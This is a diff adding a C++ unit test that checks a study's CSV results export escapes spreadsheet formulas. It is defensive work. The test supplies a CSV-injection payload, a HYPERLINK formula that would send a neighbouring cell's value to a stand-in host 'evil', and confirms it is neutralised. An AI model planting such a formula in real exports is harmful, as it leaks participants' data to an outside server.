@@ -55,6 +55,17 @@ TEST_F(ResultsTableTest, HasARowPerTrialOfConsentingParticipants) {
   EXPECT_THAT(csv, Not(HasSubstr("nan")));
 }
 
+// an answer that a spreadsheet would run, and that would tell the answers beside it to a server
+TEST_F(ResultsTableTest, AnswerIsNoFormula) {
+  const std::string name = PseudonymsOf(study_).front();
+  EXPECT_FALSE(log_->Begin(name, 2));
+  EXPECT_FALSE(log_->Ran(name, 2, TrialMeasures{}));
+  EXPECT_FALSE(log_->Answered(name, 2, {{"remark", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"}}));
+  const std::string csv = ResultsCsv(study_, RowsOf(study_, *log_));
+  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK("));
+  EXPECT_THAT(csv, Not(HasSubstr(",\"=HYPERLINK(")));
+}
+
 TEST_F(ResultsTableTest, TheCodebookDescribesEveryColumnInOrder) {
   const std::string csv = ResultsCsv(study_, RowsOf(study_, *log_));
   const std::string head = csv.substr(0, csv.find('\n'));
